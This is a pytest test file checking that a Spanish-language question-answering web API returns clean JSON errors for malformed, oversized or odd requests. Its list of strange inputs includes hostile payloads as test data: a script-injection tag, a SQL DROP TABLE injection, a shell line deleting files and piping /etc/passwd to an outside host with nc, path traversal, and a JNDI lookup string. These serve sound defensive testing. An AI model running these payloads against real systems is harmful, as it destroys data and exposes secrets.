"""Every kind of bad or strange input to POST /api/ask gets a clear JSON reply: never a 500, never HTML."""

from __future__ import annotations

import json
from typing import Any

import pytest

from qa.pipeline import MAX_QUESTION_CHARS
from web import MAX_BODY_BYTES

JSON = "application/json"


def raw(data: bytes | str, content_type: str | None = JSON) -> dict[str, Any]:
    """Keyword arguments for the test client's post with a literal body."""
    kwargs: dict[str, Any] = {"data": data}
    if content_type is not None:
        kwargs["content_type"] = content_type
    return kwargs


def body(value: Any) -> dict[str, Any]:
    return raw(json.dumps(value))


def assert_json_error(response, status: int, code: str) -> None:  # type: ignore[no-untyped-def]
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    error = response.get_json()["error"]
    assert error["code"] == code
    assert isinstance(error["message"], str) and error["message"].strip()
    assert "Traceback" not in error["message"]


BAD_REQUESTS = [
    ("empty body", raw(b""), 400, "invalid_json"),
    ("whitespace body", raw(b"  \n "), 400, "invalid_json"),
    ("malformed json", raw(b'{"question": "hola"'), 400, "invalid_json"),
    ("trailing garbage", raw(b'{"question": "hola"} x'), 400, "invalid_json"),
    ("json array", body(["¿Dónde?"]), 400, "body_not_object"),
    ("json string", body("¿Dónde se reunieron?"), 400, "body_not_object"),
    ("json number", body(42), 400, "body_not_object"),
    ("json null", raw(b"null"), 400, "body_not_object"),
    ("question missing", body({}), 400, "question_missing"),
    ("question misspelt", body({"pregunta": "¿Dónde?"}), 400, "question_missing"),
    ("question null", body({"question": None}), 400, "question_not_string"),
    ("question number", body({"question": 7}), 400, "question_not_string"),
    ("question boolean", body({"question": True}), 400, "question_not_string"),
    ("question list", body({"question": ["¿Dónde?"]}), 400, "question_not_string"),
    ("question object", body({"question": {"text": "¿Dónde?"}}), 400, "question_not_string"),
    ("question empty", body({"question": ""}), 400, "question_empty"),
    ("question whitespace", body({"question": " \t\n\u00a0 "}), 400, "question_empty"),
    ("question over length limit", body({"question": "¿" + "a" * MAX_QUESTION_CHARS + "?"}), 400,
     "question_too_long"),
    ("one 5000-character token", body({"question": "x" * 5000}), 400, "question_too_long"),
    ("history not a list", body({"question": "¿Dónde?", "history": "antes"}), 400, "history_invalid"),
    ("history of numbers", body({"question": "¿Dónde?", "history": [1, 2]}), 400, "history_invalid"),
    ("lone surrogate escape", raw(b'{"question": "\\ud800"}'), 400, "invalid_field"),
    ("not utf-8", raw('{"question": "¿Dónde?"}'.encode("latin-1")), 400, "invalid_json"),
    ("utf-16", raw('{"question": "¿Dónde?"}'.encode("utf-16")), 400, "invalid_json"),
    ("random bytes", raw(bytes(range(256))), 400, "invalid_json"),
    ("body over size limit", body({"question": "hola", "relleno": "x" * MAX_BODY_BYTES}), 413, "payload_too_large"),
    ("deep nesting over size limit", raw(b"[" * (MAX_BODY_BYTES + 1)), 413, "payload_too_large"),
    ("missing content type", raw(json.dumps({"question": "¿Dónde?"}), None), 415, "unsupported_media_type"),
    ("text/plain", raw(json.dumps({"question": "¿Dónde?"}), "text/plain"), 415, "unsupported_media_type"),
    ("form encoded", raw("question=hola", "application/x-www-form-urlencoded"), 415, "unsupported_media_type"),
    ("multipart", raw("x", "multipart/form-data; boundary=x"), 415, "unsupported_media_type"),
    ("json-like type", raw(json.dumps({"question": "¿Dónde?"}), "application/jsonx"), 415,
     "unsupported_media_type"),
]


@pytest.mark.parametrize(("label", "kwargs", "status", "code"), BAD_REQUESTS, ids=[b[0] for b in BAD_REQUESTS])
def test_bad_request_gets_its_json_error(client, label: str, kwargs: dict[str, Any], status: int, code: str) -> None:
    assert_json_error(client.post("/api/ask", **kwargs), status, code)


STRANGE_QUESTIONS = [
    ("lone question mark", "?"),
    ("english", "Where did Milei and Kast meet?"),
    ("one word", "Kast"),
    ("one common word", "elecciones"),
    ("nul characters", "¿Dónde\x00 se reunieron\x00?"),
    ("only control characters", "\x00\x01\x07\x1b[31m\x7f"),
    ("only emoji", "😀🇦🇷🎉👍🏽"),
    ("only punctuation", "¿¡?!...;:—«»"),
    ("right-to-left override", "\u202e¿Dónde se reunieron Milei y Kast?\u202c"),
    ("zero-width characters", "¿Dón\u200bde se re\u200dunieron?\ufeff"),
    ("html and script", "<script>alert('x')</script><img src=x onerror=alert(1)>¿Quién es Kast?"),
    ("sql-looking", "'; DROP TABLE preguntas; -- ¿Quién ganó?"),
    ("shell-looking", "$(rm -rf /) && `cat /etc/passwd` | nc 1.2.3.4 80"),
    ("path traversal", "../../../../etc/passwd"),
    ("format strings", "%s%s%n {0} {question} ${jndi:ldap://x}"),
    ("exactly at the limit", "¿" + "Milei " * 82 + "?"),
    ("combining marks", "Z\u0351\u0362a\u0360l\u035fg\u0358o " * 10),
    ("mixed scripts", "Милей 米莱 ميلي מיליי ¿Milei?"),
]


@pytest.mark.parametrize("question", [q for _, q in STRANGE_QUESTIONS], ids=[label for label, _ in STRANGE_QUESTIONS])
def test_strange_but_valid_question_gets_an_answer_or_a_refusal(client, question: str) -> None:
    assert len(question) <= MAX_QUESTION_CHARS
    response = client.post("/api/ask", json={"question": question})
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    reply = response.get_json()
    assert reply["question"] == question
    assert isinstance(reply["refused"], bool) and reply["answer"].strip()
    assert 0.0 <= reply["confidence"] <= 1.0
    if reply["refused"]:
        assert reply["quote"] is None and reply["source"] is None


def test_unknown_extra_fields_are_ignored(client) -> None:
    plain = client.post("/api/ask", json={"question": "¿Dónde se reunieron Milei y Kast?"}).get_json()
    extra = client.post("/api/ask", json={
        "question": "¿Dónde se reunieron Milei y Kast?", "lang": "en", "debug": True, "__proto__": {"x": 1},
    })
    assert extra.status_code == 200
    assert extra.get_json() == plain


def test_json_with_charset_parameter_is_accepted(client) -> None:
    response = client.post("/api/ask", **raw(json.dumps({"question": "¿Quién es Kast?"}), "application/json; charset=utf-8"))
    assert response.status_code == 200


@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE"])
def test_wrong_method_gets_405_json_with_allow(client, method: str) -> None:
    response = client.open("/api/ask", method=method)
    assert_json_error(response, 405, "method_not_allowed")
    assert "POST" in response.headers["Allow"]


@pytest.mark.parametrize("path", ["/api", "/api/", "/api/nada", "/api/ask/extra", "/api/ASK", "/api/health/x",
                                  "/api/%00", "/api/<script>"])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_unknown_api_path_gets_404_json(client, path: str, method: str) -> None:
    assert_json_error(client.open(path, method=method, json={"question": "hola"}), 404, "not_found")


def test_no_api_response_is_html(client) -> None:
    """A sample across the battery: the body always parses as JSON and never looks like a page."""
    for kwargs in [raw(b""), raw(b"x" * (MAX_BODY_BYTES + 10)), raw(b"{}", None), body({"question": "<b>hola</b>"})]:
        response = client.post("/api/ask", **kwargs)
        assert response.mimetype == "application/json"
        assert not response.get_data(as_text=True).lstrip().startswith("<")


# The same battery for POST /api/feedback: the transport-level errors are shared with /api/ask.
FEEDBACK_OK = {"question": "¿Dónde se reunieron Milei y Kast?", "answer": "En Buenos Aires.", "rating": "up"}
TRANSPORT_ERRORS = [b for b in BAD_REQUESTS if b[3] in {"invalid_json", "body_not_object", "payload_too_large",
                                                         "unsupported_media_type"}]
FEEDBACK_BAD = TRANSPORT_ERRORS + [
    ("question missing", body({k: v for k, v in FEEDBACK_OK.items() if k != "question"}), 400, "question_missing"),
    ("question null", body({**FEEDBACK_OK, "question": None}), 400, "question_not_string"),
    ("question list", body({**FEEDBACK_OK, "question": ["x"]}), 400, "question_not_string"),
    ("question empty", body({**FEEDBACK_OK, "question": "  "}), 400, "question_empty"),
    ("question 5000-character token", body({**FEEDBACK_OK, "question": "x" * 5000}), 400, "question_too_long"),
    ("rating missing", body({k: v for k, v in FEEDBACK_OK.items() if k != "rating"}), 400, "rating_missing"),
    ("rating unknown", body({**FEEDBACK_OK, "rating": "meh"}), 400, "rating_invalid"),
    ("rating number", body({**FEEDBACK_OK, "rating": 1}), 400, "rating_invalid"),
    ("rating list", body({**FEEDBACK_OK, "rating": ["up"]}), 400, "rating_invalid"),
    ("answer object", body({**FEEDBACK_OK, "answer": {"x": 1}}), 400, "answer_invalid"),
]


@pytest.mark.parametrize(("label", "kwargs", "status", "code"), FEEDBACK_BAD, ids=[b[0] for b in FEEDBACK_BAD])
def test_bad_feedback_gets_its_json_error(client, label: str, kwargs: dict[str, Any], status: int, code: str) -> None:
    assert_json_error(client.post("/api/feedback", **kwargs), status, code)


@pytest.mark.parametrize("question", [q for _, q in STRANGE_QUESTIONS], ids=[label for label, _ in STRANGE_QUESTIONS])
def test_strange_feedback_text_is_stored_as_sent(client, question: str) -> None:
    response = client.post("/api/feedback", json={**FEEDBACK_OK, "question": question, "comment": question,
                                                   "extra": "ignorado"})
    assert response.status_code == 201, response.get_data(as_text=True)
    assert response.get_json()["status"] == "stored"


@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE"])
def test_wrong_method_on_feedback_gets_405_json(client, method: str) -> None:
    assert_json_error(client.open("/api/feedback", method=method), 405, "method_not_allowed")
